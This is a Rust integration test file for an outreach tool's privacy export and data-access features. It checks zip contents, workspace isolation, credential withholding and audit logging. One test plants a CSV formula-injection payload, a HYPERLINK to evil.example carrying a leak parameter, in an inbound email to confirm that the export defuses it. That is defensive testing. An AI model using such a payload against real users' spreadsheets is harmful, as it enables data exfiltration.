//! Exports end to end: a workspace seeded across every feature (contacts, their
//! company's enrichment, a sequence sent over SMTP, a reply through the inbound
//! webhook, an attachment) is exported through the API; the zip is fetched through
//! its presigned URL and opened. It holds every item of the workspace's collection
//! partition and the audit trail, readable CSV tables, the attachment, and nothing
//! of another workspace; credentials are withheld. A person's access request gives
//! a summary they can read. Roles without the export permission are refused, and
//! every step leaves an audit entry.
//!
//! moto does not check a presigned URL's expiry (AWS does, from the signed
//! `X-Amz-Date` and `X-Amz-Expires`): the test asserts what Tern signs, and that
//! Tern itself refuses a link for an export past its lifetime.

use crate::enrichment::{enrich, website};
use crate::outreach::{SMTP_PASSWORD, default_sequence, ok, reply_from, set_clock, sign_up, smtp_mailbox, tick_dispatch, to, token};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::io::Read;
use std::time::Duration;
use tern_devhost::{DevHost, MailDelivery, WebsiteFetch};
use tern_domain::clock::Clock;
use tern_mailsink::{MailSink, SinkOptions, TlsMode};
use tern_tests::{call, eventually, observer_clients, start_dev_host_custom};
use time::macros::datetime;

const OWNER: &str = "ann@export.example";
const ERIKA: &str = "erika.mustermann@acme.example";
const BOB: &str = "bob@keep.example";
const FOREIGN: &str = "only.in.the.other.workspace@foreign.example";
const NOTE: &str = "Met Erika at the Hannover fair; call back after the budget round.";
const ATTACHMENT: &[u8] = b"%PDF-1.4 the deck we attach, marker 7f3a";

/// Runs a privacy task through the API and waits for it to end.
async fn run_task(host: &DevHost, ws: &str, path: &str, body: Option<Value>) -> Value {
    let owner = token(host, OWNER).await;
    let (status, task) = call(host, Method::POST, &format!("/v1/workspaces/{ws}/privacy/{path}"), Some(&owner), body).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{task}");
    let id = task["id"].as_str().unwrap().to_string();
    eventually("the privacy task to finish", Duration::from_secs(60), || async {
        let owner = token(host, OWNER).await;
        let (_, task) = call(host, Method::GET, &format!("/v1/workspaces/{ws}/privacy/tasks/{id}"), Some(&owner), None).await;
        (task["state"] == "done" || task["state"] == "failed").then_some(task)
    })
    .await
}

/// Fetches a finished export through its download link; the link and the zip's files.
async fn download(host: &DevHost, ws: &str, task: &Value) -> (Value, BTreeMap<String, Vec<u8>>) {
    let owner = token(host, OWNER).await;
    let (status, link) = call(
        host,
        Method::GET,
        &format!("/v1/workspaces/{ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()),
        Some(&owner),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{link}");
    let response = reqwest::get(link["url"].as_str().unwrap()).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = response.bytes().await.unwrap().to_vec();
    assert_eq!(bytes.len() as u64, link["bytes"].as_u64().unwrap());
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("the export is a zip");
    let mut files = BTreeMap::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let mut content = Vec::new();
        file.read_to_end(&mut content).unwrap();
        files.insert(file.name().expect("a UTF-8 file name").to_string(), content);
    }
    (link, files)
}

fn text(files: &BTreeMap<String, Vec<u8>>, name: &str) -> String {
    String::from_utf8(files.get(name).unwrap_or_else(|| panic!("{name} is in the zip: {:?}", files.keys())).clone()).unwrap()
}

/// Items of each kind in the workspace's collection partition, counted in the table itself.
async fn kinds_in_table(host: &DevHost, ws: &str) -> BTreeMap<String, usize> {
    let observer = observer_clients();
    let mut counts = BTreeMap::new();
    let mut start = None;
    loop {
        let page = observer
            .dynamodb
            .query()
            .table_name(&host.config.table)
            .key_condition_expression("pk = :pk")
            .expression_attribute_values(":pk", aws_sdk_dynamodb::types::AttributeValue::S(tern_aws::keys::workspace_partition(ws)))
            .set_exclusive_start_key(start)
            .send()
            .await
            .unwrap();
        for item in page.items.unwrap_or_default() {
            let sk = item["sk"].as_s().unwrap();
            *counts.entry(sk.split_once('#').unwrap().0.to_string()).or_default() += 1;
        }
        match page.last_evaluated_key {
            Some(key) if !key.is_empty() => start = Some(key),
            _ => return counts,
        }
    }
}

#[tokio::test]
async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_can_read_theirs() {
    let sink =
        MailSink::start(SinkOptions { mode: TlsMode::StartTls, credentials: Some(("ann".into(), SMTP_PASSWORD.into())) }).await.unwrap();
    let (site_port, _) = website().await;
    let (smtp_port, cert) = (sink.port(), sink.certificate_der());
    let host = start_dev_host_custom("export", move |options| {
        options.mail_delivery = MailDelivery {
            policy: tern_web::guard::Policy::mail().allow_loopback_for_tests(smtp_port),
            extra_roots: vec![cert],
            resolver: None,
        };
        options.website_fetch = WebsiteFetch {
            policy: tern_web::guard::Policy::website().allow_loopback_for_tests(site_port),
            limits: tern_web::fetch::Limits {
                total_timeout: Duration::from_secs(2),
                connect_timeout: Duration::from_secs(1),
                ..Default::default()
            },
            resolver: None,
        };
    })
    .await;
    set_clock(&host, datetime!(2027-06-07 09:00 UTC)); // a Monday
    let (owner, ws) = sign_up(&host, OWNER, "growth").await;
    let (other, other_ws) = sign_up(&host, "olga@other.example", "growth").await;
    ok(&host, Method::POST, &format!("/v1/workspaces/{other_ws}/contacts"), &other, json!({ "email": FOREIGN, "first_name": "Fremd" }))
        .await;

    // Seeded across the features.
    let site = format!("http://127.0.0.1:{site_port}/");
    let erika = ok(
        &host,
        Method::POST,
        &format!("/v1/workspaces/{ws}/contacts"),
        &owner,
        json!({ "email": ERIKA, "first_name": "Erika", "last_name": "Mustermann", "title": "Geschäftsführerin", "website": site }),
    )
    .await;
    let bob = ok(&host, Method::POST, &format!("/v1/workspaces/{ws}/contacts"), &owner, json!({ "email": BOB, "first_name": "Bob" })).await;
    enrich(&host, &owner, &ws, &site).await;
    let mailbox = smtp_mailbox(&host, &owner, &ws, &sink).await;
    let sequence = default_sequence(&host, &owner, &ws, &mailbox, false).await;
    ok(
        &host,
        Method::POST,
        &format!("/v1/workspaces/{ws}/sequences/{sequence}/enrollments"),
        &owner,
        json!({ "contact_ids": [erika["id"], bob["id"]] }),
    )
    .await;
    let first = eventually("the first steps", Duration::from_secs(30), || async {
        tick_dispatch(&host).await;
        let (e, b) = (to(&sink, ERIKA), to(&sink, BOB));
        (!e.is_empty() && !b.is_empty()).then(|| e[0].clone())
    })
    .await;
    reply_from(&host, &ws, &format!("Erika Mustermann <{ERIKA}>"), &first).await;
    eventually("her reply is classified", Duration::from_secs(30), || async {
        let owner = token(&host, OWNER).await;
        let (_, page) = call(&host, Method::GET, &format!("/v1/workspaces/{ws}/inbound/messages?kind=human"), Some(&owner), None).await;
        (page["items"].as_array().is_some_and(|i| !i.is_empty())).then_some(())
    })
    .await;
    let owner = token(&host, OWNER).await;
    ok(
        &host,
        Method::POST,
        &format!("/v1/workspaces/{ws}/contacts/{}/notes", erika["id"].as_str().unwrap()),
        &owner,
        json!({ "text": NOTE }),
    )
    .await;
    let uploaded = reqwest::Client::new()
        .post(format!("{}/v1/workspaces/{ws}/attachments?filename=Deck%202027.pdf", host.base_url()))
        .bearer_auth(&owner)
        .header("content-type", "application/pdf")
        .body(ATTACHMENT)
        .send()
        .await
        .unwrap();
    assert_eq!(uploaded.status(), StatusCode::CREATED);
    let attachment: Value = uploaded.json().await.unwrap();

    // A member may not export; neither the workspace nor a person.
    let (_, invite) = call(
        &host,
        Method::POST,
        &format!("/v1/workspaces/{ws}/invites"),
        Some(&owner),
        Some(json!({ "email": "mo@export.example", "role": "member" })),
    )
    .await;
    let (status, accepted) = call(
        &host,
        Method::POST,
        "/v1/invites/accept",
        None,
        Some(json!({ "token": invite["token"], "name": "Mo", "password": crate::outreach::PASSWORD })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{invite} {accepted}");
    tern_tests::verify_email(&host, "mo@export.example", accepted["access_token"].as_str().unwrap()).await;
    let member = token(&host, "mo@export.example").await;
    for (method, path, body) in
        [(Method::POST, "privacy/exports", None), (Method::POST, "privacy/access-requests", Some(json!({ "email": ERIKA })))]
    {
        let (status, answer) = call(&host, method, &format!("/v1/workspaces/{ws}/{path}"), Some(&member), body).await;
        assert_eq!((status, answer["error"]["code"].as_str()), (StatusCode::FORBIDDEN, Some("forbidden")), "{path}");
    }

    // The workspace export.
    let task = run_task(&host, &ws, "exports", None).await;
    assert_eq!(task["state"], "done", "{task}");
    let in_table = kinds_in_table(&host, &ws).await;
    let (link, files) = download(&host, &ws, &task).await;

    // Every item of every kind, as stored, one line each.
    for (kind, count) in &in_table {
        let name = format!("data/{}.jsonl", kind.to_lowercase());
        let lines: Vec<Value> = text(&files, &name).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(lines.len(), *count, "{name}");
        assert_eq!(task["processed_by_kind"][kind], json!(count), "the task counts {kind}");
    }
    for kind in [
        "CONTACT",
        "CONTACTNOTE",
        "ENROLLMENT",
        "SEND",
        "INBOUND",
        "INBOUNDTEXT",
        "ENRICHMENT",
        "MAILBOX",
        "SEQUENCE",
        "TEMPLATE",
        "ATTACHMENT",
        "MEMBER",
        "PRIVACYTASK",
    ] {
        assert!(in_table.contains_key(kind), "seeded: {kind} in {in_table:?}");
    }
    let settings: Value = serde_json::from_str(&text(&files, "workspace.json")).unwrap();
    assert_eq!(settings["workspace"]["id"], json!(ws));

    // Readable tables.
    let contacts = text(&files, "contacts.csv");
    let mut reader = csv::Reader::from_reader(contacts.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert!(
        rows.iter().any(|r| &r[1] == ERIKA && &r[2] == "Erika" && &r[3] == "Mustermann" && r[6].contains("Geschäftsführerin")),
        "{contacts}"
    );
    let messages = text(&files, "messages.csv");
    assert!(messages.lines().any(|l| l.starts_with("outbound,") && l.contains(ERIKA) && l.contains(",sent,")), "{messages}");
    assert!(messages.lines().any(|l| l.starts_with("inbound,") && l.contains(ERIKA) && l.contains("human")), "{messages}");
    assert!(text(&files, "sequences.csv").lines().count() == 2);
    assert!(text(&files, "companies.csv").contains("127.0.0.1"), "the enriched company");

    // The audit trail, complete up to the export's own request, in both forms.
    let audit_lines: Vec<Value> = text(&files, "audit.jsonl").lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let seqs: Vec<u64> = audit_lines.iter().map(|e| e["seq"].as_u64().unwrap()).collect();
    assert_eq!(seqs, (1..=seqs.len() as u64).collect::<Vec<_>>(), "every entry, in order");
    assert!(audit_lines.iter().any(|e| e["action"] == "privacy.export_requested"));
    assert_eq!(text(&files, "audit.csv").lines().count(), audit_lines.len() + 1);

    // The attachment as uploaded, under its name.
    let name = format!("attachments/{}/Deck 2027.pdf", attachment["id"].as_str().unwrap());
    assert_eq!(files.get(&name).map(Vec::as_slice), Some(ATTACHMENT), "{name} in {:?}", files.keys());

    // Nothing of the other workspace; no credential.
    for (name, content) in &files {
        let content = String::from_utf8_lossy(content);
        assert!(!content.contains(FOREIGN) && !content.contains(&other_ws), "{name} holds the other workspace's data");
        assert!(!content.contains(SMTP_PASSWORD), "{name} holds the SMTP password");
    }
    assert!(text(&files, "data/mailbox.jsonl").contains("sealed credential, not exported"));
    // Notes are the workspace's own writing: exported readable.
    let note: Value = serde_json::from_str(text(&files, "data/contactnote.jsonl").lines().next().unwrap()).unwrap();
    assert_eq!(note["text"], NOTE);

    // The zip rests under the workspace's own key; the link lives five minutes of Tern's clock.
    let url = reqwest::Url::parse(link["url"].as_str().unwrap()).unwrap();
    let query: BTreeMap<String, String> = url.query_pairs().map(|(k, v)| (k.into_owned(), v.into_owned())).collect();
    assert_eq!(query.get("X-Amz-Expires").map(String::as_str), Some("300"), "{url}");
    let signed_at = time::PrimitiveDateTime::parse(
        &query["X-Amz-Date"],
        time::macros::format_description!("[year][month][day]T[hour][minute][second]Z"),
    )
    .unwrap()
    .assume_utc();
    assert!((signed_at - host.clock.now()).abs() < time::Duration::minutes(5), "signed at Tern's now: {signed_at}");
    assert_eq!(link["expires_at"].as_i64().unwrap(), signed_at.unix_timestamp() + 300);
    assert!(query.contains_key("X-Amz-Signature"));
    let observer = observer_clients();
    let key = url.path().split_once(&format!("/{}/", host.config.bucket)).map(|(_, key)| key.to_string()).unwrap();
    assert!(key.starts_with(&format!("exports/{ws}/")), "{key}");
    let head = observer.s3.head_object().bucket(&host.config.bucket).key(&key).send().await.unwrap();
    assert_eq!(head.server_side_encryption, Some(aws_sdk_s3::types::ServerSideEncryption::AwsKms));
    assert!(head.ssekms_key_id.unwrap_or_default().contains(&kms_key_of(&host, &ws).await), "the workspace's own key");

    // Another workspace cannot reach this export.
    let (status, _) = call(
        &host,
        Method::GET,
        &format!("/v1/workspaces/{other_ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()),
        Some(&other),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // A person's access request: what the workspace holds about Erika, readable.
    let access = run_task(&host, &ws, "access-requests", Some(json!({ "email": ERIKA }))).await;
    assert_eq!(access["state"], "done", "{access}");
    assert!(!access.to_string().contains(ERIKA), "the task does not hold the address: {access}");
    let (_, person) = download(&host, &ws, &access).await;
    let summary = text(&person, "README.txt");
    for expected in [
        ERIKA,
        "Erika Mustermann",
        "Geschäftsführerin",
        "E-mails sent to you",
        "E-mails received from you",
        "human",
        "Tuesday works",
        "public website",
        NOTE,
    ] {
        assert!(summary.contains(expected), "`{expected}` in the summary:\n{summary}");
    }
    let data: Value = serde_json::from_str(&text(&person, "person.json")).unwrap();
    assert_eq!(data["contacts"][0]["email"], ERIKA);
    assert!(!data["messages_sent"].as_array().unwrap().is_empty() && !data["messages_received"].as_array().unwrap().is_empty());
    for (name, content) in &person {
        assert!(!String::from_utf8_lossy(content).contains(BOB), "{name} holds another contact");
    }

    // After its seven days the export is gone and no link is made for it.
    set_clock(&host, datetime!(2027-06-15 09:00 UTC));
    let owner = token(&host, OWNER).await;
    let (status, gone) = call(
        &host,
        Method::GET,
        &format!("/v1/workspaces/{ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()),
        Some(&owner),
        None,
    )
    .await;
    assert_eq!((status, gone["error"]["code"].as_str()), (StatusCode::GONE, Some("export_expired")), "{gone}");

    // Each step is on the trail, without the person's address.
    let (_, audit) = call(&host, Method::GET, &format!("/v1/workspaces/{ws}/audit?action=privacy."), Some(&owner), None).await;
    let actions: Vec<&str> = audit["entries"].as_array().unwrap().iter().filter_map(|e| e["action"].as_str()).collect();
    for action in [
        "privacy.export_requested",
        "privacy.export_completed",
        "privacy.export_downloaded",
        "privacy.access_export_requested",
        "privacy.access_export_completed",
    ] {
        assert!(actions.contains(&action), "{action} in {actions:?}");
    }
    assert!(!audit.to_string().contains(ERIKA));
    host.stop().await;
}

/// Inbound From and Subject are written by whoever sends the mail: in the export's
/// tables they are text, never a formula a spreadsheet would run.
#[tokio::test]
async fn an_inbound_subject_and_sender_written_as_formulas_are_defused_in_the_export_tables() {
    let host = tern_tests::start_dev_host("export-formulas").await;
    let (_, ws) = sign_up(&host, OWNER, "growth").await;
    let subject = r#"=HYPERLINK("http://evil.example/?leak","x")"#;
    let mail = format!(
        "From: \"@SUM(1+1)\" <=1+1@evil.example>\r\nTo: ann@export.example\r\nSubject: {subject}\r\nMessage-ID: <formula-1@evil.example>\r\n\r\nHello\r\n"
    );
    let response =
        crate::inbound::post(&host.base_url(), mail.as_bytes(), &format!("reply+{ws}@in.tern.test"), tern_tests::WEBHOOK_SECRET).await;
    assert_eq!(response.status(), StatusCode::ACCEPTED);
    let id = response.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    let table = tern_aws::table::Table::new(observer_clients().dynamodb.clone(), host.config.table.clone());
    let stored = crate::inbound::wait_classified(&table, tern_domain::ids::WorkspaceId::parse(&ws).unwrap(), &id).await;
    assert_eq!(
        (stored.subject.as_deref(), stored.from.as_deref()),
        (Some(subject), Some("=1+1@evil.example")),
        "the attack reaches the store as written"
    );

    let task = run_task(&host, &ws, "exports", None).await;
    assert_eq!(task["state"], "done", "{task}");
    let (_, files) = download(&host, &ws, &task).await;
    let messages = text(&files, "messages.csv");
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(messages.as_bytes()).records().map(Result::unwrap).collect();
    let inbound = rows.iter().find(|r| &r[0] == "inbound").unwrap_or_else(|| panic!("{messages}"));
    assert_eq!((&inbound[4], &inbound[6]), ("'=1+1@evil.example", format!("'{subject}").as_str()), "{messages}");
    // No cell of any table starts a formula.
    for (name, content) in files.iter().filter(|(name, _)| name.ends_with(".csv")) {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(content.as_slice());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell}");
            }
        }
    }
    host.stop().await;
}

/// The id of the workspace's own KMS key, from its item.
async fn kms_key_of(host: &DevHost, ws: &str) -> String {
    let observer = observer_clients();
    let item = observer
        .dynamodb
        .get_item()
        .table_name(&host.config.table)
        .key("pk", aws_sdk_dynamodb::types::AttributeValue::S(tern_aws::keys::entity_partition(ws, "WORKSPACE", ws)))
        .key("sk", aws_sdk_dynamodb::types::AttributeValue::S("WORKSPACE".into()))
        .send()
        .await
        .unwrap()
        .item
        .expect("the workspace item");
    let key = item["kms_key_id"].as_s().unwrap().clone();
    key.rsplit('/').next().unwrap().to_string()
}
